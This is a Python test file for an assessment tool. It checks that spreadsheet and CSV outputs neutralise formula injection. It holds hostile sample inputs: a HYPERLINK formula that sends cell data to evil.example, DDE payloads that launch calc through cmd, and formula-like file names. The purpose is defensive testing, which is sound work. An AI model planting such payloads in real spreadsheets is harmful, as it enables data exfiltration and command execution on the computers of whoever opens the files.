"""Texts from outside that look like formulas, links or commands: texts in every output."""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import assessor
from assessor.comparing import compare_rounds
from assessor.issuing import issue
from assessor.outputs.tables import csv_bytes
from assessor.sheets.csvfolder import quoted, text_rows, unquoted
from assessor.workflow import collect
from tests.builders import SMALL, edited, small_workspace
from tests.filling import FULL, Round, cell_of, spoiled

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"东村")'
NAMES = {"V01": EVIL, "V02": "@SUM(1+1)*cmd'!A0"}
FILES = [
    "=1+1.xlsx",
    "+cmd.xlsx",
    "-2+3.xlsx",
    "@SUM(A1).xlsx",
    "\t=1.xlsx",
    "\r=1.xlsx",
    "{=1}.xlsx",
    "http:evil.example.xlsx",
    "＝1+1.xlsx",
    "\u202e=1.xlsx",
]
CELL = "=2+5+cmd|' /C calc'!A0"
SHEET = "+cmd|' C calc'!A0"

RISKY = re.compile(r"[=+\-@＝＋－＠\t\r\n]|\{=")
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?%?")

WORDS = [
    # a text, as it stands in a CSV file
    ("=1+1", "'=1+1"),
    ("+86 138 0000 0000", "'+86 138 0000 0000"),
    ("-5", "-5"),
    ("-5.25", "-5.25"),
    ("+3", "+3"),
    ("-12.5%", "-12.5%"),
    ("-5+2", "'-5+2"),
    ("+-+5", "'+-+5"),
    ("-²", "'-²"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("{=1}", "'{=1}"),
    ("＝1", "'＝1"),
    ("\n=1", "'\n=1"),
    ("'=1", "''=1"),
    ("'东村", "'东村"),
    ("东村=西村", "东村=西村"),
    ("http://a.example", "http://a.example"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "written"), WORDS)
def test_a_text_in_a_csv_is_no_formula_and_comes_back(text: str, written: str) -> None:
    assert quoted(text) == written
    assert unquoted(written) == text


@given(st.text(alphabet="'=+-@{5.% \tx东", max_size=8))
def test_what_is_quoted_comes_back_whatever_it_was(text: str) -> None:
    assert unquoted(quoted(text)) == text
    assert not RISKY.match(quoted(text)) or NUMBER.fullmatch(text)


def test_tabs_and_returns_are_shown_in_a_csv() -> None:
    (_, row) = text_rows(csv_bytes(["a"], [["\t=1", "\r=1", "一\r\n二", "\u202e=1"]])) or []
    assert row == ["\\t=1", "\\r=1", "一\n二", "\\u202e=1"]


def _hostile(folder: Path, year: str) -> Round:
    """Return a round in which every text from outside is hostile."""
    units = SMALL["units"]
    for code, old in (("V01", "东村 "), ("V02", "西河村")):
        units = edited(units, f"{code}  | {old}", f"{code}  | {NAMES[code]}")
    units = edited(units, "张三", "=1+1").replace("0000-1", "-1+1")
    folder.mkdir()
    round_ = Round(
        small_workspace(folder, units=units, settings=edited(SMALL["settings"], "2026", year))
    )
    round_.return_all()
    first = round_.filled("self", "V01", FULL | {"1.1": "19"})

    def spoil(sheet: Any) -> None:
        cell = cell_of(sheet, "1.2")
        cell.value = CELL
        cell.data_type = "s"

    bad = spoiled(round_.filled("panel", "V02", FULL), spoil)
    book = openpyxl.load_workbook(io.BytesIO(bad))
    book.create_sheet(SHEET)
    buffer = io.BytesIO()
    book.save(buffer)
    round_.put("panel-V02.xlsx", buffer.getvalue())
    for name in FILES:
        round_.put(name, first)
    return round_


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Return every file that the commands write, by its path."""
    folder = tmp_path_factory.mktemp("hostile")
    rounds = [_hostile(folder / year, year) for year in ("2025", "2026")]
    for round_ in rounds:
        issue(round_.workspace)
        collect(round_.workspace, round_.workspace.returns, workers=1)
    compare_rounds(rounds[0].workspace.root, rounds[1].workspace.root)
    shutil.rmtree(folder / "2025")
    for round_ in rounds[1:]:
        shutil.rmtree(round_.workspace.returns)
        shutil.rmtree(round_.workspace.root / "scheme")
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.suffix in {".xlsx", ".csv"}
    }


def _of(outputs: dict[str, bytes], ending: str) -> dict[str, bytes]:
    found = {name: content for name, content in outputs.items() if name.endswith(ending)}
    assert found
    return found


def test_every_kind_of_output_is_looked_at(outputs: dict[str, bytes]) -> None:
    names = {name.rpartition("/")[2] for name in outputs}
    wanted = {"ranking.xlsx", "problems.xlsx", "compare.xlsx", "compare.csv", "standing.csv"}
    assert wanted | {"files.csv", "problems.csv", "entries.csv", "scores.csv"} <= names
    assert sum("/forms/" in name for name in outputs) == 4


def test_no_workbook_has_a_formula_of_others_or_a_link_outwards(outputs: dict[str, bytes]) -> None:
    for name, content in _of(outputs, ".xlsx").items():
        book = openpyxl.load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            for line in sheet.iter_rows():
                for cell in line:
                    formula = str(cell.value) if cell.data_type == "f" else ""
                    ours = any(one in name for one in ("/forms/", "/corrections/", "/audit.xlsx"))
                    assert not formula or ours, (name, cell)
                    assert not re.search(r"HYPERLINK|cmd|evil|http", formula), (name, cell)
                    assert cell.hyperlink is None or cell.hyperlink.location, (name, cell)
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for part in archive.namelist():
                markup = archive.read(part)
                assert b'TargetMode="External"' not in markup, (name, part)
                assert b"ddeLink" not in markup
                assert b"oddHeader" not in markup
                for footer in re.findall(rb"<oddFooter>(.*?)</oddFooter>", markup):
                    assert b"cmd" not in footer
                    assert b"HYPERLINK" not in footer


def test_the_hostile_texts_are_there_as_texts(outputs: dict[str, bytes]) -> None:
    for name in ("ranking.xlsx", "problems.xlsx", "compare.xlsx"):
        (content,) = _of(outputs, name).values()
        texts = {
            str(cell.value)
            for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets
            for line in sheet.iter_rows()
            for cell in line
            if cell.data_type == "s"
        }
        assert any(EVIL in text for text in texts), name


def test_no_cell_of_a_csv_begins_like_a_formula(outputs: dict[str, bytes]) -> None:
    for name, content in _of(outputs, ".csv").items():
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
            for cell in row:
                assert not RISKY.match(cell) or NUMBER.fullmatch(cell), (name, cell)


def test_the_texts_of_a_csv_can_be_had_back(outputs: dict[str, bytes]) -> None:
    (content,) = _of(outputs, "standing.csv").values()
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert {row["unit_code"]: unquoted(row["unit"]) for row in rows} == NAMES
    (content,) = _of(outputs, "entries.csv").values()
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert CELL in {unquoted(row["raw"]) for row in rows}
    (content,) = _of(outputs, "files.csv").values()
    files = {
        unquoted(row["file"])
        for row in csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    }
    assert {"=1+1.xlsx", "{=1}.xlsx", "\\t=1.xlsx", "\\r=1.xlsx", "\\u202e=1.xlsx"} <= files


def test_last_years_hostile_names_are_the_same_units(outputs: dict[str, bytes]) -> None:
    (content,) = _of(outputs, "compare.csv").values()
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert {unquoted(row["unit"]) for row in rows} == set(NAMES.values())


def test_outputs_write_texts_by_the_one_door_only() -> None:
    """``write`` guesses from a text what it is; the others make links and formulas of it."""
    guessing = re.compile(
        r"\.(write|write_row|write_column|write_rich_string|write_array_formula)\("
    )
    for path in (Path(assessor.__file__).parent / "outputs").rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        assert not [m for m in guessing.findall(source) if f"buffer.{m}" not in source], path.name
        for call in re.findall(r"write_url\([^\n]*", source):
            assert "internal:" in call, path.name
